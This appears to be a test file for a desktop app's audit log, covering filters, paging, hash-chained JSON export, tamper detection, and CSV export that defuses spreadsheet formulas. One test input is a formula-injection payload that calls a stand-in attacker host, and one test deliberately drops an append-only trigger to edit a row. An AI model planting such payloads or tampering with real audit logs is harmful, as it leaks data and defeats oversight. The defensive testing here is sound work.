// The audit log screen's operations on a real store: filters (job, signer by name or ID number in
// any case, kind or family of kinds, days and instants), paging with the total, CSV that a
// spreadsheet opens without running a formula, JSON that carries the chain, and a row edited behind
// the log's back named by audit.verify.
import { strict as assert } from 'node:assert';
import { createHash } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it, mock } from 'node:test';
import Database from 'better-sqlite3';
import { OPERATIONS } from '../../shared/contract';
import { auditOperations, csvCell } from '../../electron/core/bridge/audit';
import { BridgeFailure } from '../../electron/core/bridge/errors';
import { openStore, type NewJob, type Store } from '../../electron/core/store/index';
import { SIGNER, UNREACHABLE_OFFICE } from '../helpers/sandbox';

/** A small RFC 4180 reader: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted || (c !== ',' && c !== '\r')) cell += c;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else {
      assert.equal(text[i + 1], '\n', 'records end with CRLF');
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    }
  }
  assert.equal(cell + row.join(''), '', 'the CSV ends with a line break');
  return rows;
}

const localTime = (day: number, hour: number, minute = 0): Date => new Date(2025, 2, day, hour, minute);

type AuditOps = ReturnType<typeof auditOperations>;
type AuditName = keyof AuditOps;

describe('audit log: list, verify, export', () => {
  let store: Store;
  let ops: AuditOps;
  const ids: Record<'maria' | 'formula' | 'removed', string> = { maria: '', formula: '', removed: '' };
  /** The answer as it crosses the bridge: checked against the contract's result schema. */
  const call = async <N extends AuditName>(
    name: N,
    args: Parameters<AuditOps[N]>[0],
  ): Promise<Awaited<ReturnType<AuditOps[N]>>> => {
    const operation = ops[name] as unknown as (a: unknown) => ReturnType<AuditOps[N]>;
    const result = await operation(OPERATIONS[name].args.parse(args));
    OPERATIONS[name].result.parse(result);
    return result;
  };

  before(() => {
    store = openStore(mkdtempSync(join(tmpdir(), 'audit-log-')));
    ops = auditOperations({ store });
    mock.timers.enable({ apis: ['Date'], now: localTime(1, 9) });
    store.profiles.save({ ...UNREACHABLE_OFFICE, id: 'p1' });
    const job = (label: string, signer: Partial<NewJob['signer']>): NewJob => ({
      profileId: 'p1',
      raoUsername: 'rao',
      label,
      signer: { ...SIGNER, ...signer },
      auth: { method: 'otp', delivery: 'sms' },
      outputDir: '/tmp/out',
      documents: [{ sha256: 'a'.repeat(64), filename: 'a.pdf', size: 10, pages: 1 }],
    });
    mock.timers.setTime(localTime(1, 23, 30).getTime());
    ids.maria = store.jobs.create(job('María', {})).id;
    mock.timers.setTime(localTime(2, 0, 15).getTime());
    store.jobs.transition(ids.maria, 'creating');
    ids.formula = store.jobs.create(
      job('Formula', {
        given_name: '=HYPERLINK("http://evil.example/?x="&A1)',
        surname_1: 'Smith, "Jr"',
        surname_2: undefined,
        serial_number: 'X9876543',
      }),
    ).id;
    mock.timers.setTime(localTime(2, 12).getTime());
    store.jobs.event(ids.formula, 'review.read', { which: 'contract', note: '-1+1\nsecond line' });
    ids.removed = store.jobs.create(job('Gone', { given_name: 'Zoe', surname_1: 'Removed' })).id;
    store.jobs.remove(ids.removed);
    mock.timers.setTime(localTime(3, 8).getTime());
    store.settings.set('language', 'es');
    store.jobs.transition(ids.maria, 'created', { pk: '822001' }, { requestPk: '822001' });
    mock.timers.reset();
  });
  after(() => store.close());

  const seqs = async (filter: Parameters<(typeof ops)['audit.list']>[0]): Promise<number[]> =>
    (await call('audit.list', filter)).events.map((e) => e.seq);

  it('lists every event in order with its job’s signer, and pages with the total', async () => {
    const all = await call('audit.list', {});
    assert.equal(all.total, 9);
    assert.deepEqual(
      all.events.map((e) => [e.seq, e.kind, e.signer]),
      [
        [1, 'profile.created', null],
        [2, 'job.created', 'María Núñez García'],
        [3, 'job.state', 'María Núñez García'],
        [4, 'job.created', '=HYPERLINK("http://evil.example/?x="&A1) Smith, "Jr"'],
        [5, 'review.read', '=HYPERLINK("http://evil.example/?x="&A1) Smith, "Jr"'],
        [6, 'job.created', null],
        [7, 'job.removed', null],
        [8, 'settings.changed', null],
        [9, 'job.state', 'María Núñez García'],
      ],
    );
    assert.equal(all.events[6]?.jobId, ids.removed, 'a removed job’s events keep its id');
    assert.deepEqual(all.events[8]?.data, { from: 'creating', to: 'created', pk: '822001' });
    assert.ok(!('hash' in (all.events[0] ?? {})), 'the list leaves the hashes to the export');

    const page = await call('audit.list', { offset: 3, limit: 4 });
    assert.deepEqual([page.total, page.events.map((e) => e.seq)], [9, [4, 5, 6, 7]]);
    const last = await call('audit.list', { kind: 'job.', offset: 4, limit: 4 });
    assert.deepEqual([last.total, last.events.map((e) => e.seq)], [6, [7, 9]]);
    assert.deepEqual(await call('audit.list', { offset: 50, limit: 10 }), { events: [], total: 9 });
  });

  it('filters by job, by signer name or ID number in any case and without accents, and by kind', async () => {
    assert.deepEqual(await seqs({ jobId: ids.maria }), [2, 3, 9]);
    assert.deepEqual(await seqs({ jobId: ids.removed }), [6, 7]);
    assert.deepEqual(await seqs({ signer: 'nuñez' }), [2, 3, 9]);
    assert.deepEqual(await seqs({ signer: 'MARIA NUNEZ' }), [2, 3, 9]);
    assert.deepEqual(await seqs({ signer: '12345678z' }), [2, 3, 9]);
    assert.deepEqual(await seqs({ signer: 'x9876' }), [4, 5]);
    assert.deepEqual(await seqs({ signer: 'smith, "jr' }), [4, 5]);
    assert.deepEqual(await seqs({ signer: '%' }), [], 'no wildcards');
    assert.deepEqual(await seqs({ signer: 'Zoe' }), [], 'a removed job has no signer any more');
    assert.deepEqual(await seqs({ kind: 'job.state' }), [3, 9]);
    assert.deepEqual(await seqs({ kind: 'job.' }), [2, 3, 4, 6, 7, 9]);
    assert.deepEqual(await seqs({ kind: 'job' }), [2, 3, 4, 6, 7, 9]);
    assert.deepEqual(await seqs({ kind: 'job.stat' }), [], 'a kind is not a prefix of letters');
    assert.deepEqual(await seqs({ kind: 'job.state', signer: 'maría', jobId: ids.maria }), [3, 9]);
    assert.deepEqual(await seqs({ signer: '   ' }), [1, 2, 3, 4, 5, 6, 7, 8, 9], 'blank is no filter');
  });

  it('filters by day (this computer’s calendar) and by instant, both ends inclusive', async () => {
    assert.deepEqual(await seqs({ from: '2025-03-02', to: '2025-03-02' }), [3, 4, 5, 6, 7]);
    assert.deepEqual(await seqs({ to: '2025-03-01' }), [1, 2]);
    assert.deepEqual(await seqs({ from: '2025-03-03' }), [8, 9]);
    const noon = localTime(2, 12).toISOString();
    assert.deepEqual(await seqs({ from: noon }), [5, 6, 7, 8, 9]);
    assert.deepEqual(await seqs({ to: noon }), [1, 2, 3, 4, 5, 6, 7]);
    assert.deepEqual(await seqs({ from: noon, to: noon, kind: 'review.read' }), [5]);
    assert.deepEqual(await seqs({ from: '2025-03-03', to: '2025-03-01' }), []);

    for (const [field, value] of [
      ['from', 'yesterday'],
      ['to', '2025-02-30'],
      ['from', '2025-03-02T25:00:00Z'],
    ] as const) {
      await assert.rejects(
        call('audit.list', { [field]: value }),
        (e: unknown) => e instanceof BridgeFailure && e.code === 'validation' && !!e.fields?.[field],
        `${field}=${value}`,
      );
    }
  });

  it('quotes CSV cells by RFC 4180 and defuses cells a spreadsheet would run as formulas', async () => {
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('two\nlines'), '"two\nlines"');
    for (const risky of ['=1+2', '+34600', '-1', '@SUM(A1)', '\tx', '\r=1'])
      assert.ok(csvCell(risky).replace(/^"/, '').startsWith(`'${risky[0]}`), JSON.stringify(risky));

    const csv = await call('audit.export', { format: 'csv', jobId: ids.formula });
    assert.match(csv.filename, /^oneshot-audit-\d{4}-\d{2}-\d{2}\.csv$/);
    assert.ok(csv.content.startsWith('\uFEFFseq,at,jobId,signer,kind,data\r\n'));
    const rows = parseCsv(csv.content.slice(1));
    assert.deepEqual(rows[0], ['seq', 'at', 'jobId', 'signer', 'kind', 'data']);
    assert.equal(rows.length, 3);
    const [, created, read] = rows as [string[], string[], string[]];
    assert.deepEqual(created.slice(0, 5), [
      '4',
      localTime(2, 0, 15).toISOString(),
      ids.formula,
      `'=HYPERLINK("http://evil.example/?x="&A1) Smith, "Jr"`,
      'job.created',
    ]);
    assert.equal(JSON.parse(created[5] ?? '').label, 'Formula');
    assert.deepEqual(JSON.parse(read[5] ?? ''), { which: 'contract', note: '-1+1\nsecond line' });
    assert.ok(!read[5]?.includes('\n  '), 'data is compact JSON');

    const everything = parseCsv((await call('audit.export', { format: 'csv' })).content.slice(1));
    assert.deepEqual(
      everything.slice(1).map((r) => r[0]),
      // 10: the export just before, written after its file was made (so not in it).
      ['1', '2', '3', '4', '5', '6', '7', '8', '9', '10'],
    );
    assert.ok(everything.every((r) => r.length === 6));
  });

  it('exports JSON with the hashes, the filter and the verdict, from which the chain can be checked again', async () => {
    const exported = await call('audit.export', { format: 'json', kind: 'job.' });
    assert.match(exported.filename, /^oneshot-audit-\d{4}-\d{2}-\d{2}\.json$/);
    const file = JSON.parse(exported.content) as {
      filter: Record<string, unknown>;
      verdict: { ok: boolean; events: number };
      chain: { genesis: string };
      events: {
        seq: number;
        at: string;
        jobId: string | null;
        kind: string;
        data: unknown;
        dataJson: string;
        prevHash: string;
        hash: string;
      }[];
    };
    assert.deepEqual(file.filter, { kind: 'job.' });
    assert.deepEqual(
      file.verdict,
      { ok: true, result: 'intact', events: 11, sealed: false },
      'nine events and two exports, plain hashes (no keychain seal on this store)',
    );
    assert.deepEqual(
      file.events.map((e) => e.seq),
      [2, 3, 4, 6, 7, 9],
    );
    for (const e of file.events) {
      assert.deepEqual(JSON.parse(e.dataJson), e.data);
      const hash = createHash('sha256')
        .update(JSON.stringify([e.prevHash, e.seq, e.at, e.jobId, e.kind, e.dataJson]))
        .digest('hex');
      assert.equal(hash, e.hash, `row ${e.seq} re-hashes to its hash`);
    }
    // Consecutive rows link: 2 → 3 → 4.
    assert.equal(file.events[1]?.prevHash, file.events[0]?.hash);
    assert.equal(file.events[2]?.prevHash, file.events[1]?.hash);
    const whole = JSON.parse((await call('audit.export', { format: 'json' })).content) as typeof file;
    assert.equal(whole.events[0]?.prevHash, whole.chain.genesis);
  });

  it('records each export after its file is made: the form, how many events and the filters used, never their values', async () => {
    const before = (await call('audit.list', {})).total;
    const csv = await call('audit.export', { format: 'csv', signer: 'núñez', from: '2025-03-02' });
    const rows = parseCsv(csv.content.slice(1)).slice(1);
    const list = await call('audit.list', { kind: 'audit.exported' });
    assert.equal(list.total, before - 9 + 1, 'every export so far, this one included');
    const last = list.events.at(-1);
    assert.equal(last?.seq, before + 1);
    assert.deepEqual(last?.data, { format: 'csv', events: rows.length, filters: ['from', 'signer'] });
    assert.ok(!JSON.stringify(last).includes('núñez'), 'the name searched for is not written down');
    assert.deepEqual(
      rows.map((r) => [r[0], r[4]]),
      [
        ['3', 'job.state'],
        ['9', 'job.state'],
      ],
      'María’s events from 2 March on, and not this export',
    );
  });

  it('audit verify detects a tampered row and names it', async () => {
    const events = (await call('audit.list', {})).total;
    assert.deepEqual(await call('audit.verify', {}), { ok: true, result: 'intact', events, sealed: false });
    const outside = new Database(join(store.dataDir, 'oneshot.db'));
    outside.exec('DROP TRIGGER events_append_only_update');
    outside
      .prepare('UPDATE events SET data_json = ? WHERE seq = 5')
      .run(JSON.stringify({ which: 'contract', note: 'never read' }));
    outside.close();

    assert.deepEqual(await call('audit.verify', {}), {
      ok: false,
      result: 'broken',
      events: 5,
      sealed: false,
      brokenAt: { seq: 5, reason: 'its content was changed after it was written' },
    });
    const exported = JSON.parse(
      (await call('audit.export', { format: 'json', jobId: ids.formula })).content,
    ) as {
      verdict: { ok: boolean; brokenAt?: { seq: number } };
    };
    assert.deepEqual([exported.verdict.ok, exported.verdict.brokenAt?.seq], [false, 5]);
  });
});
